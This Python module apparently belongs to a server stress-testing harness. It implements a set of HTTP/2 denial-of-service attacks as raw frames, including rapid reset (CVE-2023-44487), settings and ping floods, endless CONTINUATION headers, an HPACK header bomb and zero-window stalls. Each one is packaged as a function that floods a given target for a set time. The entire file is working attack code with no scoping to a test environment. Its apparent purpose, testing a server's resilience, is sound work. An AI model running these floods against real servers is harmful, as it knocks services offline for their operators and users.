"""Attacks on HTTP/2, frame by frame; the header blocks are literals of RFC 7541 without Huffman coding."""
import struct
import time

from http1_attacks import quietly, until

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field that is not indexed."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


GET = b"\x82\x87" + literal(b":path", b"/metrics") + literal(b":authority", b"h")


def opened(target):
    """A connection on which HTTP/2 has begun; nothing is read from it."""
    connection = quietly(target.connect, "h2")
    if connection is None or connection.selected_alpn_protocol() != "h2":
        raise AssertionError("the server does not speak HTTP/2")
    connection.settimeout(1)
    quietly(connection.sendall, PREFACE + frame(SETTINGS, 0, 0))
    return connection


def flood(target, seconds, pieces):
    """Sends what `pieces` gives for each turn until the server closes, then begins again."""
    turn, connection = 0, None
    for _ in until(seconds):
        if connection is None:
            turn, connection = 0, opened(target)
        try:
            connection.sendall(pieces(turn))
            turn += 1
        except OSError:
            connection.close()
            connection = None
            time.sleep(0.01)


def rapid_reset(turn):
    """Opens streams and takes them back at once (CVE-2023-44487)."""
    ids = range(turn * 200 + 1, turn * 200 + 201, 2)
    return b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, i, GET) + frame(RST_STREAM, 0, i, b"\0\0\0\x08") for i in ids)


def settings_flood(_):
    """Settings without end, each of which has to be acknowledged (CVE-2019-9515)."""
    return frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 500


def ping_flood(_):
    """Pings without end (CVE-2019-9512)."""
    return frame(PING, 0, 0, b"12345678") * 500


def empty_frames(turn):
    """Empty pieces of a body that never ends (CVE-2019-9518)."""
    return (frame(HEADERS, END_HEADERS, 1, GET) if turn == 0 else b"") + frame(DATA, 0, 1) * 500


def endless_headers(turn):
    """A header block that never ends (CVE-2024-27316)."""
    start = frame(HEADERS, 0, 1, GET) if turn == 0 else b""
    return start + frame(CONTINUATION, 0, 1, literal(b"x-a", b"b" * 100)) * 100


def header_bomb(turn):
    """One large field, indexed once and named by a byte each time after (CVE-2016-6581)."""
    block = GET + b"\x40\x03x-a\x7f\x81\x1e" + b"b" * 4000 + b"\xbe" * 4000
    return frame(HEADERS, END_STREAM | END_HEADERS, turn * 2 + 1, block)


# What a server must not put up with, turn by turn.
FLOODS = [rapid_reset, settings_flood, ping_flood, empty_frames, endless_headers, header_bomb]


def attack_of(pieces):
    """The attack that sends a flood."""
    def attack(target, seconds):
        flood(target, seconds, pieces)
    attack.__name__ = pieces.__name__
    return attack


def many_streams(target, seconds):
    """As many requests as fit, again and again, on connections that are closed unread."""
    for _ in until(seconds):
        connection = opened(target)
        quietly(connection.sendall, b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, i, GET) for i in range(1, 401, 2)))
        time.sleep(0.05)
        connection.close()


def unread_answers(target, seconds):
    """Opens the window wide, asks for ever more and reads nothing (CVE-2019-9517)."""
    wide = frame(WINDOW_UPDATE, 0, 0, b"\x7f\0\0\0")
    def pieces(turn):
        ids = range(turn * 200 + 1, turn * 200 + 201, 2)
        return (wide if turn == 0 else b"") + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, i, GET) for i in ids)
    flood(target, seconds, pieces)


def closed_windows(target, seconds, number=100):
    """Requests whose answers may not be sent, since the window stays shut."""
    shut = PREFACE + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0")
    connections = []
    for _ in until(seconds):
        if len(connections) >= number:
            time.sleep(0.05)
            continue
        connection = opened(target)
        quietly(connection.sendall, shut[len(PREFACE):] + b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, i, GET) for i in range(1, 101, 2)))
        connections.append(connection)


ATTACKS = [attack_of(pieces) for pieces in FLOODS] + [many_streams, unread_answers, closed_windows]
